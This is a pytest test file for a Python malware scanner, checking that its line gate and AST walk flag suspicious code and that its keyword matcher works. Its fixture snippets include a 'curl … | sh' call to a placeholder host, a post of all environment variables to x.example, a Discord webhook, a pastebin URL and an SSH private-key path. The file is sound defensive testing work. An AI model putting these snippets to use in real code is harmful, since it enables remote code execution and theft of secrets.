"""The text gate and the gated walk: what it lets the walk skip never changes a finding, and each Python file is
parsed once for every rule and for the node extraction."""

from __future__ import annotations

import ast
from collections.abc import Iterator
from pathlib import Path

import pytest

from functions.scanner.rules import python
from functions.scanner.rules.base import SourceText
from functions.scanner.rules.needles import Needles
from functions.scanner.rules.pygate import covers, interesting_lines
from tests.scanner.support import CORPUS, SUFFIX, scan_files

SNIPPETS = {
    "alias": "from subprocess import Popen as P\n\ndef f(cmd):\n    x = 1\n    P(cmd, shell=True)\n",
    "helper": (
        "import base64\n\ndef decode(x):\n    return base64.b64decode(x)\n\n"
        "def g():\n    y = 2\n    return decode(Y)\n\n"
        "def run():\n    data = g()\n    z = data\n    exec(z)\n"
    ),
    "split_webhook": 'def f():\n    u = "https://disc" + "ord.com/api/webhooks/1/abc"\n    return u\n',
    "ssh_path": 'import os\n\ndef f(h):\n    return os.path.join(h, ".ssh", "id_rsa")\n',
    "decorator": "from os import system as run\n\n\n@cache(run('curl -s http://a.example/x | sh'))\ndef f(): ...\n",
    "download_then_chmod": (
        "import os, requests\n\ndef f(u, p):\n    r = requests.get(u)\n    with open(p, 'wb') as h:\n"
        "        h.write(r.content)\n    os.chmod(p, 0o755)\n"
    ),
    "escaped": 'def f():\n    return "\\x68ttps://pastebin.com/raw/abc"\n',
    "sweep": (
        "import os, requests\nENV = dict(os.environ)\n\ndef f():\n    requests.post('https://x.example', json=ENV)\n"
    ),
}


def _python_files() -> Iterator[tuple[str, str]]:
    for path in sorted(CORPUS.rglob(f"*.py{SUFFIX}")):
        yield str(path.relative_to(CORPUS)), path.read_text(encoding="utf-8", errors="replace")
    yield from SNIPPETS.items()


def _hits(name: str, text: str, gate: bool, monkeypatch: pytest.MonkeyPatch) -> set[tuple[str, str, int | None]]:
    if not gate:  # every line interesting: the walk reads everything, as it did before the gate
        monkeypatch.setattr(python, "interesting_lines", lambda t: list(range(1, t.count("\n") + 2)))
    try:
        tree = ast.parse(text)
    except SyntaxError:
        return set()
    hits = python._ast_hits(SourceText(name, text), tree, name.endswith("install.py.sample"))
    monkeypatch.undo()
    return {(h.rule, h.severity.value, h.line) for h in hits}


@pytest.mark.parametrize(("name", "text"), list(_python_files()), ids=[n for n, _ in _python_files()])
def test_the_gated_walk_finds_what_the_full_walk_finds(name: str, text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    full = _hits(name, text, False, monkeypatch)
    assert _hits(name, text, True, monkeypatch) == full


def test_the_snippets_are_caught_at_all() -> None:
    rules = {name: {h[0] for h in _hits(name, text, True, pytest.MonkeyPatch())} for name, text in SNIPPETS.items()}
    assert "PY-OBFUSCATED-EXEC" in rules["helper"] and "EXFIL-ENDPOINT" in rules["split_webhook"]
    assert "CREDENTIAL-ACCESS" in rules["ssh_path"] and "EXFIL-ENDPOINT" in rules["escaped"]
    assert "ENV-SECRET-EXFIL" in rules["sweep"] and "SHELL-DOWNLOADER" in rules["decorator"]
    assert "PY-DOWNLOAD-EXEC" in rules["download_then_chmod"]


def test_plain_code_has_no_interesting_line() -> None:
    text = "def f(a, b=3):\n    c = a * b + 1\n    return c - len(str(a))\n\n\nclass A:\n    x = 'model'\n"
    assert interesting_lines(text) == []
    assert interesting_lines("def f(m):\n    m.eval()\n    return re.compile('x')\n") == []
    assert interesting_lines("import os\n\n\ndef f():\n    os.system('x')\n") == [5]
    assert interesting_lines("x = 1\ny = 'a' + 'b'\nz = 'pastebin'\n") == [2, 3]


def test_covers() -> None:
    assert covers([3, 10], 4, 10) and covers([3, 10], 1, 3) and not covers([3, 10], 4, 9) and not covers([], 1, 9)


def test_each_python_file_is_parsed_once(monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[str] = []
    real_parse = ast.parse

    def counting(source: object, *args: object, **kwargs: object) -> ast.AST:
        calls.append(str(kwargs.get("filename", args[0] if args else "")))
        return real_parse(source, *args, **kwargs)  # type: ignore[call-overload, no-any-return]

    monkeypatch.setattr(ast, "parse", counting)
    files = {"__init__.py": "from .a import A\nNODE_CLASS_MAPPINGS = {'A': A}\n", "a.py": Path(__file__).read_text()}
    report = scan_files(files)
    assert sorted(calls) == ["__init__.py", "a.py"] and report.extraction.status in ("success", "partial")


def test_words_count_only_whole_and_needles_only_inside_strings() -> None:
    # `pip` inside `pipeline`, `exec` after a dot, a needle in a comment or a name: nothing to look at.
    assert interesting_lines("pipeline = 1\nm.exec(x)\n# paste the wallet here\nwallet_size = 2\n") == []
    assert interesting_lines("import pip\nexec(x)\n") == [1, 2]
    assert interesting_lines("x = 'my wallet'\n# wallet\n") == [1, 2]  # wherever the substring is, once in a string
    # Offsets are characters, not bytes: a line after non-ASCII text is still the right line.
    assert interesting_lines("s = 'é' * 3\nt = 'ü'\nexec(s)\n") == [3]


def test_needles_are_found_in_one_pass_overlapping_and_by_character() -> None:
    finder = Needles(["webmine", "webminepool", "pool", "", "pool"])
    assert finder.words == ("pool", "webmine", "webminepool")
    assert finder.present("é webminepool") == {"webmine", "webminepool", "pool"}
    assert finder.occurrences("éé pool") == [("pool", 3, 7)]
    assert Needles([]).present("anything") == set() and Needles([]).occurrences("x") == []
